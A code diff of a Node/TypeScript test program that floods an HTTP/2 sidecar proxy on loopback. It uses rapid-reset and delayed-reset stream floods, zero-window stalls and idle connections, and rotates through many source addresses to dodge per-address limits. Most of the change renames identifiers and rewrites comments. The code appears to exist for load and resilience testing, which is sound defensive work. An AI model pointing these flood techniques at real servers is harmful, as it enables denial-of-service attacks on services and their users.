@@ -4,52 +4,52 @@ import { connect, type TLSSocket } from 'node:tls'
 import type { AttackKind, AttackPlan, AttackReport } from './attack.ts'
 import { beginning, continuation, get, NO_SETTINGS, opening, PINGED, reset } from './http2-bytes.ts'
 
-/** `node attack-program.ts PLAN`: runs an `AttackPlan` until it is told to end, and prints an `AttackReport` as JSON, again and again. */
+/** `node attack-program.ts PLAN`: runs an `AttackPlan` until SIGTERM, and prints an `AttackReport` as JSON periodically. */
 const plan = JSON.parse(process.argv[2] ?? '{}') as AttackPlan // of `startAttack`
 
-/** Of an attacker that has many; connections of a flood are held against each of them once there were 25 within a minute. */
+/** Addresses of an attacker with many: the sidecar counts the offences of each, up to 25 within a minute. */
 const ADDRESSES = 250
 
-/** Frames that are sent in one piece, so that they cost the sidecar more than their sender. */
-const AT_ONCE = 50
+/** Frames per write: a batch costs the attacker less than the sidecar. */
+const BATCH = 50
 
-/** Of a response (bytes), where the attack is not about that. */
+/** Initial window of a stream (bytes), for attacks that do not depend on it. */
 const ORDINARY_WINDOW = 65_535
 
 /** Milliseconds. */
-const LONGEST = 10 * 60_000
+const TIME_LIMIT = 10 * 60_000
 const TICK = 10
-const MOMENT = 100
+const REPORT_INTERVAL = 100
 
-let begun = 0
+let started = 0
 let opened = 0
 let closed = 0
 
-interface Part {
+interface Behaviour {
   readonly protocol: 'http/1.1' | 'h2'
-  play(socket: TLSSocket): void
+  run(socket: TLSSocket): void
 }
 
-/** Asks for something like everybody else, and then for nothing any more. */
-const IDLE: Readonly<Record<Part['protocol'], Part>> = {
+/** Sends one ordinary request, then nothing. */
+const IDLE: Readonly<Record<Behaviour['protocol'], Behaviour>> = {
   'http/1.1': {
     protocol: 'http/1.1',
-    play: (socket) => socket.write('GET / HTTP/1.1\r\nHost: device\r\n\r\n'),
+    run: (socket) => socket.write('GET / HTTP/1.1\r\nHost: device\r\n\r\n'),
   },
   h2: {
     protocol: 'h2',
-    play: (socket) => socket.write(Buffer.concat([opening(ORDINARY_WINDOW), get(1, '/')])),
+    run: (socket) => socket.write(Buffer.concat([opening(ORDINARY_WINDOW), get(1, '/')])),
   },
 }
 
-function flood(first: Buffer, piece: (turn: number) => Buffer): Part {
+function flood(first: Buffer, piece: (turn: number) => Buffer): Behaviour {
   return {
     protocol: 'h2',
-    play(socket) {
+    run(socket) {
       let turn = 0
       const more = (): void => {
         if (!socket.writable) return
-        const pieces = Array.from({ length: AT_ONCE }, () => {
+        const pieces = Array.from({ length: BATCH }, () => {
           turn += 1
           return piece(turn - 1)
         })
@@ -62,24 +62,24 @@ function flood(first: Buffer, piece: (turn: number) => Buffer): Part {
 
 const NOTHING = Buffer.alloc(0)
 
-/** Broken off together with the request, which costs the attacker the least. */
-const rapidReset: Part = flood(NOTHING, (turn) =>
+/** Resets each stream in the same write as its request, which costs the attacker the least. */
+const rapidReset: Behaviour = flood(NOTHING, (turn) =>
   Buffer.concat([get(2 * turn + 1, '/'), reset(2 * turn + 1)]),
 )
 
-/** Broken off once the sidecar has had time to send the request on. */
-const lateReset: Part = flood(NOTHING, (turn) => {
-  const asked = get(2 * turn + 1, '/', plan.token)
-  return turn < AT_ONCE ? asked : Buffer.concat([reset(2 * (turn - AT_ONCE) + 1), asked])
+/** Resets each stream after the sidecar has had time to forward its request. */
+const lateReset: Behaviour = flood(NOTHING, (turn) => {
+  const request = get(2 * turn + 1, '/', plan.token)
+  return turn < BATCH ? request : Buffer.concat([reset(2 * (turn - BATCH) + 1), request])
 })
 
-const zeroWindows: Part = {
+const zeroWindows: Behaviour = {
   protocol: 'h2',
-  play: (socket) => socket.write(Buffer.concat([opening(0), get(1, plan.path, plan.token)])),
+  run: (socket) => socket.write(Buffer.concat([opening(0), get(1, plan.path, plan.token)])),
 }
 
-const PARTS: Readonly<Record<AttackKind, (connection: number) => Part>> = {
-  // Half of them each.
+const BEHAVIOURS: Readonly<Record<AttackKind, (connection: number) => Behaviour>> = {
+  // Half of the connections each.
   idle: (connection) => IDLE[connection % 2 === 0 ? 'h2' : 'http/1.1'],
   'rapid reset': () => rapidReset,
   'rapid reset with a token': () => lateReset,
@@ -90,52 +90,55 @@ const PARTS: Readonly<Record<AttackKind, (connection: number) => Part>> = {
 }
 
 function open(connection: number): void {
-  const part = PARTS[plan.kind](connection)
-  const address = plan.addresses === 'one' ? 1 : 1 + (begun % ADDRESSES)
-  begun += 1
+  const behaviour = BEHAVIOURS[plan.kind](connection)
+  const address = plan.addresses === 'one' ? 1 : 1 + (started % ADDRESSES)
+  started += 1
   const socket = connect({
     socket: connectTcp({
       port: plan.port,
       host: '127.0.0.1',
       localAddress: `127.0.${plan.network}.${address}`,
     }),
-    ALPNProtocols: [part.protocol],
-    // Self-signed, by the sidecar, on loopback.
+    ALPNProtocols: [behaviour.protocol],
+    // The sidecar signs its own certificate, and the connection stays on loopback.
     rejectUnauthorized: false,
   })
   socket.on('secureConnect', () => {
     opened += 1
-    part.play(socket)
+    behaviour.run(socket)
   })
-  // What comes is not looked at; only so is it seen that the connection ends.
+  // Discards the input. Reading it is necessary to notice the end of the connection.
   socket.resume()
   socket.on('error', () => {})
   socket.on('close', () => {
     closed += 1
-    vacant.push(connection)
+    closedConnections.push(connection)
   })
 }
 
-/** A line each time: the last one counts. */
-function tell(done?: () => void): void {
+/** Prints one line. The last line is the current report. */
+function printReport(done?: () => void): void {
   const report: AttackReport = { opened, closed }
   process.stdout.write(`${JSON.stringify(report)}\n`, done)
 }
 
-process.once('SIGTERM', () => tell(() => process.exit(0)))
-setInterval(() => tell(), MOMENT)
-setTimeout(() => process.exit(1), LONGEST).unref()
+process.once('SIGTERM', () => printReport(() => process.exit(0)))
+setInterval(() => printReport(), REPORT_INTERVAL)
+setTimeout(() => process.exit(1), TIME_LIMIT).unref()
 
-const vacant = Array.from({ length: plan.connections }, (_, connection) => plan.connections - 1 - connection)
+const closedConnections = Array.from(
+  { length: plan.connections },
+  (_, connection) => plan.connections - 1 - connection,
+)
 let allowance = 0
 let last = performance.now()
 setInterval(() => {
   const now = performance.now()
-  // What was not used up is not saved for later: that would be another rate.
+  // Unused allowance beyond one second expires: a later burst would exceed the rate.
   allowance = Math.min(plan.rate, allowance + ((now - last) / 1000) * plan.rate)
   last = now
   while (allowance >= 1) {
-    const connection = vacant.pop()
+    const connection = closedConnections.pop()
     if (connection === undefined) {
       allowance = 0
       return
